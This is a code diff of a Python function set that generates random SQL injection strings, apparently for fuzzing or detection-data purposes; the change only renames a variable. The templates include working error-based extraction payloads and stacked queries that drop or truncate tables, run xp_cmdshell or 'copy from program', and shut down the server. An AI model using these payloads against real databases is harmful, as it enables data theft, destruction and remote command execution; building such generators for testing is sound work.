@@ -153,22 +153,22 @@ def error(r: R) -> str:
             f"(select (case when ({truth(r)}) then 1 else 0 end))",
         )
     )
-    made = r.choice((f"extractvalue({number(r)},concat(0x7e,{inner}))", f"updatexml(1,concat(0x3a,{inner}),1)",
+    payload = r.choice((f"extractvalue({number(r)},concat(0x7e,{inner}))", f"updatexml(1,concat(0x3a,{inner}),1)",
         f"(select 1 from (select count(*),concat({inner},floor(rand(0)*2))x from information_schema.tables group by x)a)",
         f"cast({inner} as int)=1", f"convert(int,{inner})", f"1=(select upper(xmltype(chr(60)||{inner})) from dual)",
         f"ctxsys.drithsx.sn(1,{inner})=1", f"exp(~{inner})",
         f"row(1,2)>(select count(*),concat({inner},floor(rand(0)*2))x from (select 1 union select 2)a group by x limit 1)",
         f"cast({inner}::text as numeric)", f"utl_inaddr.get_host_address({inner})", f"json_keys({inner})", f"gtid_subset({inner},1)",
         f"procedure analyse(extractvalue(1,{inner}),1)"))  # fmt: skip
-    return finish(r, f"{opening(r)} {logic(r)} {made}{closing(r)}")
+    return finish(r, f"{opening(r)} {logic(r)} {payload}{closing(r)}")
 
 
 def stacked(r: R) -> str:
     """A second statement."""
-    made = r.choice((f"drop table {r.choice(TABLES)}", f"insert into {r.choice(TABLES)} values ({columns(r)})",
+    payload = r.choice((f"drop table {r.choice(TABLES)}", f"insert into {r.choice(TABLES)} values ({columns(r)})",
         f"update {r.choice(TABLES)} set {r.choice(COLUMNS)}='{word(r)}'", f"delete from {r.choice(TABLES)}",
         f"exec xp_cmdshell '{word(r)}'", f"exec master..xp_cmdshell 'ping {word(r)}'",
         f"declare @x varchar(99);set @x=0x{number(r):x};exec(@x)", "shutdown", select(r), f"create table {word(r)}(x int)",
         f"alter table {r.choice(TABLES)} add x int", f"truncate table {r.choice(TABLES)}", f"exec sp_executesql N'{word(r)}'",
         f"copy {word(r)} from program 'id'", "exec('sel'+'ect 1')"))  # fmt: skip
-    return finish(r, f"{opening(r)};{r.choice(('', ' '))}{made}{closing(r)}")
+    return finish(r, f"{opening(r)};{r.choice(('', ' '))}{payload}{closing(r)}")
